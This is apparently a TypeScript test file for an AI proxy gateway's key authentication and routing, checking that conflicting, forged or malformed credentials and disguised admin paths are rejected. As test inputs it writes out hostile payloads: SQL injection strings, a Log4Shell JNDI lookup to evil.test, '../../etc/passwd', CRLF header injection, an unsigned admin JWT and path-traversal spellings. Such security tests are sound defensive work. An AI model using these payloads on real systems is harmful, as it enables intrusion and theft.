import { hash } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { definePlugin } from '@ai-proxy/core';
import { startGateway } from '@ai-proxy/core/testing';
import { builtins } from '@ai-proxy/plugins';
import t, { type Test } from 'tap';
import {
  chatRequest,
  checkSilence,
  clientKey,
  expectOutcome,
  getRequest,
  otherKey,
  startScene,
  type Expected,
} from './scene.ts';

/** Whom the gateway took for its clients. */
const addresses: string[] = [];
const addressBook = definePlugin({
  name: 'address-book',
  api: 1,
  summary: 'Notes the address of each client.',
  headOnly: true,
  setup: () => ({
    handle: (ctx, next) => {
      addresses.push(ctx.inbound.ip);
      return next();
    },
  }),
});

const scene = await startScene({
  extra: { 'address-book': () => Promise.resolve({ default: addressBook }) },
  pipeline: ['chat-api', 'messages-api', 'address-book', 'auth', 'router', 'openai-compat'],
});
t.teardown(() => scene.close());

// The body of a client without a good key is not read, so its connection is of no use any more.
const unknown: Expected = { status: 401, code: 'KEY_UNKNOWN', closes: true };
const missing: Expected = { status: 401, code: 'KEY_MISSING', closes: true };
const conflict: Expected = { status: 400, code: 'KEY_CONFLICT', closes: true };
const strangeKey = 'sk-nobody-has-this-key-5d20';

const withKeys = (authorization: string | undefined, ...more: string[]) =>
  chatRequest({ headers: { authorization }, more });
const inUrl = (query: string) =>
  chatRequest({
    line: `POST /v1/chat/completions?${query} HTTP/1.1`,
    headers: { authorization: undefined },
  });

async function each(
  t: Test,
  cases: Readonly<Record<string, Buffer>>,
  expected: Expected,
): Promise<void> {
  for (const [name, bytes] of Object.entries(cases))
    await t.test(name, async (t) => void (await expectOutcome(t, scene, bytes, expected)));
}

t.test('row 30: two Authorization headers', async (t) => {
  const second = (value: string) => withKeys(`Bearer ${clientKey}`, `Authorization: ${value}`);
  const cases = {
    'a good one and a bad one': second(`Bearer ${strangeKey}`),
    'a bad one and a good one': withKeys(
      `Bearer ${strangeKey}`,
      `authorization: Bearer ${clientKey}`,
    ),
    'the same twice': second(`Bearer ${clientKey}`),
    'two good ones': second(`Bearer ${otherKey}`),
    'an empty second one': second(''),
    'another scheme': second('Basic dXNlcjpwYXNz'),
  };
  await each(t, cases, { ...conflict, hidden: [strangeKey, 'dXNlcjpwYXNz'] });
});

t.test('row 31: two x-api-key headers, or one with the text of two', async (t) => {
  const hidden = [strangeKey];
  const two = withKeys(undefined, `x-api-key: ${clientKey}`, `X-Api-Key: ${strangeKey}`);
  await expectOutcome(t, scene, two, { ...conflict, hidden });
  const joined = withKeys(undefined, `x-api-key: ${clientKey}, ${strangeKey}`);
  await expectOutcome(t, scene, joined, { ...unknown, hidden });
  const twice = withKeys(undefined, `x-goog-api-key: ${clientKey}, ${clientKey}`);
  await expectOutcome(t, scene, twice, unknown);
});

t.test('row 32: different keys in different places', async (t) => {
  const bearer = `Bearer ${clientKey}`;
  const cases = {
    'authorization and x-api-key': withKeys(bearer, `x-api-key: ${strangeKey}`),
    'two keys that are both good': withKeys(bearer, `x-api-key: ${otherKey}`),
    'x-api-key and x-goog-api-key': withKeys(
      undefined,
      `x-api-key: ${clientKey}`,
      `x-goog-api-key: ${strangeKey}`,
    ),
    'authorization and ?key=': chatRequest({
      line: `POST /v1/chat/completions?key=${strangeKey} HTTP/1.1`,
    }),
  };
  await each(t, cases, { ...conflict, hidden: [strangeKey] });
  for (const twice of [
    `key=${clientKey}&key=${strangeKey}`,
    `key=${strangeKey}&key=${clientKey}`,
    `key=${clientKey}&key=${clientKey}`,
  ])
    await expectOutcome(t, scene, inUrl(twice), { ...unknown, hidden: [strangeKey] });
  const torn = inUrl(`key=${clientKey}?${strangeKey}`);
  await expectOutcome(t, scene, torn, { ...unknown, hidden: [strangeKey] });
});

t.test('row 32: every place is read by the same rules', async (t) => {
  const served: Expected = { status: 200, reaches: 1, closes: false };
  const good = {
    bearer: withKeys(`Bearer ${clientKey}`),
    'bearer in capitals': withKeys(`BEARER ${clientKey}`),
    'x-api-key': withKeys(undefined, `x-api-key: ${clientKey}`),
    'x-goog-api-key': withKeys(undefined, `x-goog-api-key: ${clientKey}`),
    '?key=': inUrl(`key=${clientKey}`),
    'all of them': withKeys(
      `Bearer ${clientKey}`,
      `x-api-key: ${clientKey}`,
      `x-goog-api-key: ${clientKey}`,
    ),
  };
  await each(t, good, served);
  const bad = {
    bearer: withKeys(`Bearer ${strangeKey}`),
    'x-api-key': withKeys(undefined, `x-api-key: ${strangeKey}`),
    'x-goog-api-key': withKeys(undefined, `x-goog-api-key: ${strangeKey}`),
    '?key=': inUrl(`key=${strangeKey}`),
  };
  await each(t, bad, { ...unknown, hidden: [strangeKey] });
});

t.test('row 33: keys that are written for a database, a script or a log', async (t) => {
  const keys = [
    "' OR '1'='1",
    "'; DROP TABLE keys; --",
    'return redis.call("keys","*")',
    '*',
    '?'.repeat(clientKey.length),
    `${clientKey.slice(0, -1)}*`,
    '[a-z]*',
    '../../etc/passwd',
    '${jndi:ldap://evil.test/a}',
    '__proto__',
    'constructor',
    '\xff\xfe',
    `\t${clientKey}\tx`,
    'x'.repeat(8_000),
  ];
  for (const key of keys) {
    const hidden = key.length < 12 ? [] : [key];
    await expectOutcome(t, scene, withKeys(`Bearer ${key}`), { ...unknown, hidden });
    await expectOutcome(t, scene, withKeys(undefined, `x-api-key: ${key}`), {
      ...unknown,
      hidden,
    });
  }
  for (const query of ['key=a%0d%0ax-api-key:b', `key=${clientKey}%00`, `key=${clientKey}%0a`])
    await expectOutcome(t, scene, inUrl(query), unknown);
});

t.test('row 34: keys are looked up by their hash and compared in constant time', async (t) => {
  // Differences of nanoseconds cannot be told from noise on a busy machine; so the mechanism is what
  // is looked at. A wrong key costs the same steps wherever it differs: one hash, one lookup.
  const source = readFileSync(
    new URL('../../../plugins/policies/auth/match.ts', import.meta.url),
    'utf8',
  );
  t.match(source, /const name = digestOf\(presented\);\s+const entry = entries\.get\(name\)/);
  t.match(source, /timingSafeEqual\(entry\.digest, /);
  t.notMatch(source, /secret\s*===|===\s*\w*\.?secret|startsWith|localeCompare/);
  for (const at of [0, 1, 14, clientKey.length - 1]) {
    const wrong = `${clientKey.slice(0, at)}~${clientKey.slice(at + 1)}`;
    await expectOutcome(t, scene, withKeys(`Bearer ${wrong}`), { ...unknown, hidden: [wrong] });
  }
  const digest = hash('sha256', clientKey);
  await expectOutcome(t, scene, withKeys(`Bearer ${digest}`), { ...unknown, hidden: [digest] });
});

t.test('row 35: keys with a long common start are different clients', async (t) => {
  t.equal(clientKey.slice(0, 20), otherKey.slice(0, 20));
  const clients = new Set<unknown>();
  for (const key of [clientKey, otherKey]) {
    const lines = scene.logs.length;
    const bytes = withKeys(`Bearer ${key}`);
    await expectOutcome(t, scene, bytes, { status: 200, reaches: 1 });
    clients.add(scene.logs[lines]?.['client']);
  }
  t.equal(clients.size, 2, 'each has its own name in the log');
  for (const key of [clientKey.slice(0, 20), clientKey.slice(0, -1), `${clientKey}0`])
    await expectOutcome(t, scene, withKeys(`Bearer ${key}`), unknown);
});

t.test('row 36: empty keys', async (t) => {
  for (const value of ['Bearer ', 'Bearer', '', 'Bearer    ', 'Basic dXNlcjpwYXNz', clientKey])
    await expectOutcome(t, scene, withKeys(value), missing);
  await expectOutcome(t, scene, withKeys(undefined), missing);
  await expectOutcome(t, scene, withKeys(undefined, 'x-api-key: '), missing);
  await expectOutcome(t, scene, inUrl('key='), missing);
  const messages = chatRequest({
    line: 'POST /v1/messages HTTP/1.1',
    headers: { authorization: undefined },
  });
  await expectOutcome(t, scene, messages, { ...missing, form: 'messages' });
});

t.test('row 36: a gateway with sample or empty keys does not start', async (t) => {
  const samples = ['', ' ', 'your-api-key', 'your-api-key-1', 'sk-1234', 'sk-xxxx', 'changeme'];
  for (const key of samples)
    for (const config of [{ 'api-keys': [key] }, { 'auth-keys': [{ key }] }]) {
      const starting = startGateway({
        builtins,
        config: JSON.stringify({ pipeline: ['chat-api', 'auth', 'router', 'demo'], ...config }),
      });
      await t.rejects(starting, { name: 'ConfigError' }, JSON.stringify(config));
    }
});

t.test('row 40: what a client says about its address is not believed', async (t) => {
  const claims = [
    'x-forwarded-for: 203.0.113.9',
    'x-forwarded-for: 127.0.0.1, 203.0.113.9',
    'x-real-ip: 203.0.113.9',
    'forwarded: for=203.0.113.9;host=evil.test;proto=https',
    'cf-connecting-ip: 203.0.113.9',
    'true-client-ip: 203.0.113.9',
    'x-forwarded-host: evil.test',
  ];
  addresses.length = 0;
  await expectOutcome(t, scene, chatRequest({ more: claims }), { status: 200, reaches: 1 });
  t.same([...new Set(addresses)], ['127.0.0.1']);
  const sent = JSON.stringify(scene.upstream.requests.at(-2)?.headers);
  t.notMatch(sent, /203\.0\.113\.9|evil\.test/, 'the upstream is told none of it');
  const bytes = chatRequest({ headers: { authorization: undefined }, more: claims });
  await expectOutcome(t, scene, bytes, missing);
});

t.test('row 41: a client key opens no /admin, and a token of a login no API', async (t) => {
  const nowhere: Expected = { status: 404, code: 'ROUTE_UNKNOWN' };
  for (const path of ['/admin', '/admin/config', '/admin/keys', '/dashboard', '/metrics'])
    await expectOutcome(t, scene, getRequest(path), nowhere);
  const token = [{ alg: 'none' }, { sub: 'admin', role: 'admin' }]
    .map((part) => Buffer.from(JSON.stringify(part)).toString('base64url'))
    .join('.');
  const bytes = withKeys(`Bearer ${token}.`);
  await expectOutcome(t, scene, bytes, { ...unknown, hidden: [token] });
});

const tricks = [
  '//admin/config',
  '///admin/config',
  '/admin/./config',
  '/ADMIN/config',
  '/admin%2fconfig',
  '/%61dmin/config',
  '/admin/config/',
  '/v1/../admin/config',
  '/v1/..%2fadmin/config',
  '/v1/%2e%2e/admin/config',
  '/v1/chat/../../admin/config',
  '/admin;x=1/config',
  '/v1/models;x=/../admin/config',
  '/admin/config%00.json',
  '/admin/config?x=/v1/models',
  '/%2fadmin/config',
  '/.git/config',
  '/%zz',
];

t.test('row 42: no spelling of a path leads past the router', async (t) => {
  const nowhere: Expected = { status: 404, code: 'ROUTE_UNKNOWN' };
  for (const path of tricks)
    await t.test(
      path,
      async (t) => void (await expectOutcome(t, scene, getRequest(path), nowhere)),
    );
});

t.test('row 42: no spelling of a good path leads past the key', async (t) => {
  const paths = [
    '/v1/models',
    '/v1/models/',
    '/V1/MODELS',
    '/v1/models/bird-1',
    '/v1/models/..%2f..%2fadmin',
    '/v1/models/../../health',
    '/v1/models/%2e%2e',
    '/v1/models/%zz',
    '//v1/models',
    '/v1//models',
    '/v1/%6dodels',
    '/v1/models;x=',
    '/health/../v1/models',
    '/v1/models?path=/health',
  ];
  for (const path of [...paths, ...tricks]) {
    const client = scene.connect();
    await client.send(`GET ${path} HTTP/1.1\r\nhost: a\r\n\r\n`);
    const [answer] = await client.answers();
    client.destroy();
    t.ok([401, 404].includes(answer?.status ?? 0), `${path} gives ${answer?.status}`);
    checkSilence(t, { text: client.received.text, logs: scene.logs.slice(-2) });
  }
});

t.test('row 42: a model of a URL is no way out of its path either', async (t) => {
  const invalid: Expected = { status: 400, code: 'MODEL_INVALID' };
  for (const name of ['..%2f..%2fadmin', '%2e%2e', 'a%00b', 'a%0d%0ab', 'a%3fb', '%zz'])
    await expectOutcome(t, scene, getRequest(`/v1/models/${name}`), invalid);
});
